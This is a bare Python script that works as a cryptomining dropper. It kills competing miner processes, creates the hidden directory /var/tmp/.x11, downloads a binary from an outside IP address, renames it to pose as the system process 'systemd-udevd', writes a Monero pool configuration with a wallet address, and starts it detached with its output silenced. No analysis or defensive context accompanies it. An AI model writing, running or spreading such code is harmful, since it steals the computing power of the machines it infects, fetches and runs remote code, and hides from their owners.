import os, subprocess, urllib.request, json

for name in ("xmrig", "kinsing", "kdevtmpfsi", "minerd", "xmr-stak"):
    os.system("pkill -9 -f %s >/dev/null 2>&1" % name)

home = "/var/tmp/.x11"
os.makedirs(home, exist_ok=True)
urllib.request.urlretrieve("http://198.51.100.31/xm", home + "/systemd-udevd")
os.chmod(home + "/systemd-udevd", 0o755)
cfg = {
    "pools": [{"url": "stratum+tcp://pool.hashvault.example.com:3333",
               "user": "43QGgipcHvNLBX3nunZLwVQpF6VbobmGcQKzXzQ5xMfJgzfRBzfXcJHX1tUHcKPm9bcjubrzKqTm69JbQSL4B3f6E3mNCbU",
               "pass": "x"}],
    "cpu": {"max-threads-hint": 75},
}
with open(home + "/config.json", "w") as f:
    json.dump(cfg, f)
subprocess.Popen([home + "/systemd-udevd", "-c", home + "/config.json"], cwd=home,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
